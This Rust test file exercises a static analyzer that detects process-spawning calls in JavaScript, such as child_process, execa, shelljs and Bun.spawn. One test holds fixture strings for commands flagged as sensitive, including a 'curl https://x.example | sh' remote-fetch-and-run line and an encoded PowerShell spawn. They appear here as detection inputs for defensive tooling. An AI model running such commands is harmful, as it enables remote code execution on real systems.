use waxseal_model::CapabilityKind::Process;

use super::{check, check_twins};

#[test]
fn every_way_to_start_a_process() {
    check_twins(
        Process,
        &[
            (
                "require('child_process').exec('git status')",
                "node:child_process.exec git status",
                "/x/.exec('git status')",
            ),
            (
                "require('node:child_process').execSync('ls')",
                "node:child_process.exec ls",
                "db.execSync('ls')",
            ),
            (
                "import { spawn } from 'child_process'; spawn('git', ['log', '-1'])",
                "node:child_process.spawn git log -1",
                "import { spawn } from './spawn'; spawn('git', ['log'])",
            ),
            (
                "require('child_process').spawn('git', rest)",
                "node:child_process.spawn /git */",
                "const { spawn } = opts; spawn('git')",
            ),
            (
                "require('child_process').fork('./worker.js')",
                "node:child_process.fork ./worker.js",
                "repo.fork('./worker.js')",
            ),
            (
                "const exec = require('util').promisify(require('child_process').exec); exec('ls')",
                "node:child_process.exec ls",
                "const f = require('util').promisify(require('fs').readFile); f('ls')",
            ),
            (
                "require('execa')('npm', ['run', 'x'])",
                "execa npm run x",
                "require('execa').parse('npm')",
            ),
            (
                "require('cross-spawn').sync('npm', ['i'])",
                "cross-spawn.sync npm i",
                "require('cross-spawn')._parse('npm')",
            ),
            (
                "require('shelljs').exec('ls')",
                "shelljs.exec ls",
                "require('shelljs').cd('ls')",
            ),
            (
                "new (require('worker_threads').Worker)('./w.js')",
                "node:worker_threads.Worker ./w.js",
                "require('worker_threads').isMainThread",
            ),
            (
                "process.binding('spawn_sync')",
                "process.binding spawn_sync",
                "process.on('exit', f)",
            ),
            ("Bun.spawn(['ls', '-l'])", "Bun.spawn ls -l", "Bun.inspect(['ls'])"),
        ],
    );
}

#[test]
fn commands_that_fetch_decode_or_persist_are_sensitive() {
    for (source, expected) in [
        (
            "require('child_process').exec('curl https://x.example | sh')",
            "node:child_process.exec curl https://x.example | sh!",
        ),
        (
            "require('child_process').spawn('powershell.exe', ['-enc', x])",
            "node:child_process.spawn /powershell.exe -enc */!",
        ),
        (
            "require('child_process').exec('node -e \"1\"')",
            "node:child_process.exec node -e \"1\"!",
        ),
        (
            "require('child_process').exec('node index.js')",
            "node:child_process.exec node index.js",
        ),
        (
            "require('child_process').exec('curly')",
            "node:child_process.exec curly",
        ),
        (
            "new (require('worker_threads').Worker)(code, { eval: true })",
            "node:worker_threads.Worker ?!",
        ),
    ] {
        check(Process, source, &[expected]);
    }
}

#[test]
fn a_command_that_is_not_known_is_said_to_be_so() {
    check(
        Process,
        "require('child_process').exec(cmd)",
        &["node:child_process.exec ?"],
    );
    check(
        Process,
        "require('child_process')[how]('ls')",
        &["node:child_process[] ls"],
    );
}

#[test]
fn an_api_that_is_handed_on_may_be_called_there() {
    check(
        Process,
        "const { exec } = require('child_process'); each(list, exec)",
        &["node:child_process.exec ?"],
    );
    check(
        Process,
        "const cp = require('child_process'); run(cp.spawn, 'ls')",
        &["node:child_process.spawn ?"],
    );
    check(
        Process,
        "const { exec } = require('child_process'); const run = require('util').promisify(exec)",
        &[],
    );
    check(Process, "const { exec } = require('./mine'); each(list, exec)", &[]);
}

#[test]
fn an_api_is_followed_through_what_the_file_puts_it_under() {
    for source in [
        "const cp = require('child_process'); const o = { run: cp.exec }; o.run('ls')",
        "const cp = require('child_process'); const o = { cp }; o.cp.exec('ls')",
        "class A { constructor() { this.cp = require('child_process') } go() { this.cp.exec('ls') } }",
        "class A { cp = require('child_process'); go() { this.cp.exec('ls') } }",
        "let a, b; a = b; b = a; a = require('child_process'); b.exec('ls')",
        "(function (cp) { cp.exec('ls') })(require('child_process'))",
        "import('child_process').then((cp) => cp.exec('ls'))",
        "const go = async () => { const cp = await import('child_process'); cp.exec('ls') }",
        "function get() { return require('child_process') } get().exec('ls')",
        "const cp = require('child_process'); cp.exec.call(null, 'ls')",
        "var x = __toESM(require('child_process')); x.exec('ls'); function __toESM(m) { return m && m.__esModule ? m : { default: m } }",
    ] {
        check(Process, source, &["node:child_process.exec ls"]);
    }
}
